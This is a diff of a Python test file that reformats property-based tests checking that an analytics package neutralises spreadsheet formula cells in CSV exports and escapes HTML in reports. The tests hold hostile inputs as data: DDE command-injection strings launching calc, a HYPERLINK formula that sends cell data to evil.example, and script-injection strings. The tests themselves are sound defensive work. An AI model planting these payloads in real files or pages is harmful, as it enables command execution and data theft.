@@ -13,16 +13,28 @@ from pathlib import Path
 import pandas as pd
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from relsupport import make_client, make_sandbox
 
 import mfanalytics
 from mfanalytics.export import restore_formulas, restore_name, to_safe_csv
-from relsupport import make_client, make_sandbox
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 PLAIN_NUMBER = re.compile(r"[+-]?\d[\d .]*(?:,\d+)?")  # the README's exception: plain numbers
-PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1\r\n=2+2",
-            "line\n=2+2", "+33612345678", "-12,5", "Zoé =1", "ok"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1\r\n=2+2",
+    "line\n=2+2",
+    "+33612345678",
+    "-12,5",
+    "Zoé =1",
+    "ok",
+]
 
 
 def _cells(path: Path) -> list[list[str]]:
@@ -47,7 +59,7 @@ def _runs(cell: str) -> bool:
     number = PLAIN_NUMBER.match(text)
     if number is None:
         return True
-    rest = text[number.end():]
+    rest = text[number.end() :]
     if rest == "":
         return False
     if rest[0] not in ',;\t|"\r\n':
@@ -62,15 +74,21 @@ def _assert_safe(path: Path, rows: int) -> None:
     assert bad == [], f"cells a spreadsheet would run: {bad}"
 
 
-text_cells = st.one_of(st.sampled_from(PAYLOADS), st.text(st.sampled_from("=+-@\t\r\n;\"' 0123456789aé,."), max_size=12))
+text_cells = st.one_of(
+    st.sampled_from(PAYLOADS), st.text(st.sampled_from("=+-@\t\r\n;\"' 0123456789aé,."), max_size=12)
+)
 
 
 @settings(max_examples=80, deadline=None, derandomize=True, database=None)
-@given(values=st.lists(text_cells, min_size=1, max_size=20), name=st.sampled_from(["reply", "=HYPERLINK(\"x\")", "@col", "NOM"]))
+@given(
+    values=st.lists(text_cells, min_size=1, max_size=20),
+    name=st.sampled_from(["reply", '=HYPERLINK("x")', "@col", "NOM"]),
+)
 def test_safe_csv_neutralises_every_formula_cell_and_keeps_every_row(values, name, tmp_path_factory):
     path = tmp_path_factory.mktemp("csv") / "out.csv"
-    frame = pd.DataFrame({name: pd.Series(values, dtype="string"), "n": range(len(values)),
-                          "cat": pd.Categorical(values)})
+    frame = pd.DataFrame(
+        {name: pd.Series(values, dtype="string"), "n": range(len(values)), "cat": pd.Categorical(values)}
+    )
     to_safe_csv(frame, path)
     _assert_safe(path, len(values))
     back = _cells(path)
@@ -99,11 +117,19 @@ def test_report_fields_from_the_api_are_neutralised_in_the_cli_and_library_expor
         _assert_safe(tmp_path / "report.csv", len(people))
         # the CLI: clean a hostile list, write recipients and rejected lines
         hostile = tmp_path / "hostile.csv"
-        hostile.write_text("mobile;NOM\n" + "".join(f"06{16000000 + i};\"{p.replace(chr(34), chr(34) * 2)}\"\n"
-                                                     for i, p in enumerate(PAYLOADS)) + "=1+1;x\n", encoding="utf-8")
+        hostile.write_text(
+            "mobile;NOM\n"
+            + "".join(f'06{16000000 + i};"{p.replace(chr(34), chr(34) * 2)}"\n' for i, p in enumerate(PAYLOADS))
+            + "=1+1;x\n",
+            encoding="utf-8",
+        )
         exe = Path(sys.executable).with_name("mfanalytics")
-        run = subprocess.run([exe, "clean", hostile, "--out", tmp_path / "ok.csv", "--rejected", tmp_path / "rej.csv"],
-                             capture_output=True, text=True, timeout=120)
+        run = subprocess.run(
+            [exe, "clean", hostile, "--out", tmp_path / "ok.csv", "--rejected", tmp_path / "rej.csv"],
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         assert run.returncode == 0, run.stderr
         _assert_safe(tmp_path / "ok.csv", len(PAYLOADS))
         _assert_safe(tmp_path / "rej.csv", 1)
@@ -141,8 +167,10 @@ def test_names_from_the_api_never_build_a_path(tmp_path, monkeypatch):
 
 
 def test_hostile_list_values_are_escaped_in_the_html_report(tmp_path):
-    people = [{"mobile": f"06{17000000 + i}", "AGENCE": v} for i, v in
-              enumerate(["<img src=x onerror=alert(1)>", "</style><script>alert(2)</script>", "Zoé & Cie"])]
+    people = [
+        {"mobile": f"06{17000000 + i}", "AGENCE": v}
+        for i, v in enumerate(["<img src=x onerror=alert(1)>", "</style><script>alert(2)</script>", "Zoé & Cie"])
+    ]
     with make_sandbox(seed=6) as sb:
         client = make_client(sb)
         sent = client.send_campaign("Bonjour", recipients=people)
